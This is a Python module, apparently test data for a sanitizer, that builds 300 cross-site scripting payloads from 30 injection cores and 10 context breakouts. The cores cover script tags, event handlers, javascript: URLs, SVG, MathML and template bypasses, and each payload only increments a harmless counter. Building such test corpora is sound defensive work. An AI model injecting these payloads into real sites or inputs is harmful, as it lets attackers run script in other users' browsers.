"""Three hundred ways to make a page run what somebody typed.

Every payload that runs raises `window.ran`. They are the published families (script elements, event
handlers, addresses with a scheme of their own, SVG and MathML, templates of ours and of others),
each in every place that a value can break out of.
"""

import itertools

RUN = "window.ran=(window.ran||0)+1"

_CORES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script>{RUN}//",
    f"<script src=\"data:text/javascript,{RUN}\"></script>",
    f"<script/x>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"></svg>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror=\"{RUN}\"></mtext></math>",
    f"<body onload=\"{RUN}\">",
    f"<details open ontoggle=\"{RUN}\">x</details>",
    f"<input autofocus onfocus=\"{RUN}\">",
    f"<select autofocus onfocus=\"{RUN}\"></select>",
    f"<textarea autofocus onfocus=\"{RUN}\"></textarea>",
    f"<video><source onerror=\"{RUN}\"></video>",
    f"<audio src=x onerror=\"{RUN}\"></audio>",
    f"<iframe srcdoc=\"<script>parent.{RUN.replace('window.', '')}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{RUN.replace('window.', '')}\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<marquee onstart=\"{RUN}\">x</marquee>",
    f"<a href=\"javascript:{RUN}\" autofocus onfocus=\"{RUN}\">x</a>",
    f"<style onload=\"{RUN}\"></style>",
    f"<link rel=stylesheet href=\"data:text/css,\" onload=\"{RUN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"{{{{ '<script>{RUN}</script>' | safe }}}}",
)  # fmt: skip
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></head>",
    "</blockquote>",
    "--></p>",
    "</script>",
    "</option></select>",
    "<![CDATA[>]]>",
)
PAYLOADS = tuple(f"{out}{core}" for out, core in itertools.product(_WAYS_OUT, _CORES))
